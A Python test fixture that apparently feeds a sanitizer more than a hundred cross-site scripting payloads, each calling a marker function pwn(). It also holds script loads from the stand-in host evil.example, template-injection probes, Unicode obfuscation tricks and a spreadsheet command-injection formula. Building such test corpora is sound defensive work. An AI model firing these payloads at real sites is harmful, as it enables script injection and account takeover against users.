"""What hostile pages try: more than a hundred pieces of text that would run a script if anybody took them for markup.

Each calls ``pwn()`` in its own way; the test sees whether any did.
"""

from __future__ import annotations

_TAGS = """
<script>pwn()</script>
<SCRIPT>pwn()</SCRIPT>
<script src=//evil.example/x.js></script>
<script>/*</script><script>*/pwn()</script>
<scr<script>ipt>pwn()</scr</script>ipt>
<img src=x onerror=pwn()>
<img src="x" onerror="pwn()">
<img/src/onerror=pwn()>
<img src=x onerror='pwn()' />
<IMG SRC=javascript:pwn()>
<svg onload=pwn()>
<svg/onload=pwn()>
<svg><script>pwn()</script></svg>
<svg><animate onbegin=pwn() attributeName=x dur=1s>
<svg><set onbegin=pwn() attributename=x>
<svg><a xlink:href="javascript:pwn()"><text x=20 y=20>x</text></a></svg>
<svg><foreignObject><script>pwn()</script></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwn()</script></svg>#x"></use></svg>
<math><mtext><script>pwn()</script></mtext></math>
<math href="javascript:pwn()">x</math>
<body onload=pwn()>
<body onpageshow=pwn()>
<iframe src=javascript:pwn()></iframe>
<iframe srcdoc="<script>parent.pwn()</script>"></iframe>
<iframe onload=pwn()></iframe>
<object data=javascript:pwn()></object>
<object data="data:text/html,<script>parent.pwn()</script>"></object>
<embed src=javascript:pwn()>
<video src=x onerror=pwn()></video>
<video><source onerror=pwn()></video>
<audio src=x onerror=pwn()></audio>
<input autofocus onfocus=pwn()>
<select autofocus onfocus=pwn()></select>
<textarea autofocus onfocus=pwn()></textarea>
<button autofocus onfocus=pwn()>x</button>
<details open ontoggle=pwn()>x</details>
<marquee onstart=pwn()>x</marquee>
<a href=javascript:pwn()>x</a>
<a href="jAvAsCrIpT:pwn()">x</a>
<a href="java&#x09;script:pwn()">x</a>
<a href="&#106;avascript:pwn()">x</a>
<a href="data:text/html,<script>pwn()</script>">x</a>
<form action=javascript:pwn()><input type=submit></form>
<form><button formaction=javascript:pwn()>x</button></form>
<isindex action=javascript:pwn() type=submit>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href="data:text/html,<script>pwn()</script>">
<style>@import'//evil.example/x.css';</style>
<style>*{background:url(javascript:pwn())}</style>
<div style="background:url(javascript:pwn())">x</div>
<div style="width:expression(pwn())">x</div>
<meta http-equiv=refresh content="0;url=javascript:pwn()">
<base href="javascript:pwn()//">
<template><script>pwn()</script></template>
<noscript><p title="</noscript><img src=x onerror=pwn()>"></noscript>
<title></title><script>pwn()</script>
</title><script>pwn()</script>
</textarea><script>pwn()</script>
</style><script>pwn()</script>
</script><script>pwn()</script>
--><script>pwn()</script>
<!--<img src="--><img src=x onerror=pwn()>">
]]><script>pwn()</script>
<![CDATA[<script>pwn()</script>]]>
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">pwn()</script>
"><script>pwn()</script>
'><script>pwn()</script>
"><img src=x onerror=pwn()>
'><img src=x onerror=pwn()>
" onmouseover="pwn()
' onmouseover='pwn()
" autofocus onfocus="pwn()
' autofocus onfocus='pwn()
" onfocus=pwn() autofocus x="
` onmouseover=pwn()
x onerror=pwn()
" style="animation-name:x" onanimationstart="pwn()
<p onpointerenter=pwn()>hover</p>
<div hx-on:click="pwn()">x</div>
<div hx-get="/" hx-trigger="load" hx-on::after-request="pwn()">x</div>
<div hx-vals='js:{x:pwn()}' hx-get="/" hx-trigger="load">x</div>
" hx-on:mouseover="pwn()
<div data-chart="months"></div>
</select><script>pwn()</script>
</option></datalist><script>pwn()</script>
</dialog><script>pwn()</script>
</table><script>pwn()</script>
</svg><script>pwn()</script>
<x onclick=pwn() tabindex=1 autofocus onfocus=pwn()>x</x>
<custom-element onfocus=pwn() autofocus tabindex=0>
<<script>pwn();//<</script>
<script\\x20type="text/javascript">pwn();</script>
<script type=module>pwn()</script>
<script type=text/vbscript>pwn()</script>
<a href="vbscript:pwn()">x</a>
<img src=x:x onerror=&#112;wn()>
<img src="x` `<script>pwn()</script>"` `>
<a target=_blank href=//evil.example>x</a>
{{ self.__init__.__globals__ }}<script>pwn()</script>
{{7*7}}{% raw %}<script>pwn()</script>
${pwn()}
#{pwn()}
{{constructor.constructor('pwn()')()}}
javascript:pwn()
JaVaScRiPt:pwn()
javascript://example.org/%0apwn()
data:text/html,<script>pwn()</script>
vbscript:pwn()
&lt;script&gt;pwn()&lt;/script&gt;
&#60;script&#62;pwn()&#60;/script&#62;
%3Cscript%3Epwn()%3C/script%3E
\\u003cscript\\u003epwn()\\u003c/script\\u003e
=cmd|' /C calc'!A0
"""
_CHARACTERS = [
    "<scr\u0000ipt>pwn()</scr\u0000ipt>".replace("\u0000", "\u200b"),
    "\u202e<script>pwn()</script>\u202c",
    "\u2066javascript:pwn()\u2069",
    "<img\u000bsrc=x\u000bonerror=pwn()>",
    "<img\u000csrc=x\u000conerror=pwn()>",
    "java\u0001script:pwn()",
    "\ufeff<script>pwn()</script>",
    "\uff1cscript\uff1epwn()\uff1c/script\uff1e",
    "<a href='java\u00adscript:pwn()'>x</a>",
    "\u2028<script>pwn()</script>\u2029",
    "<s\u0327cript>pwn()</script>",
    "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
]
PAYLOADS = [line for line in _TAGS.splitlines() if line.strip()] + _CHARACTERS
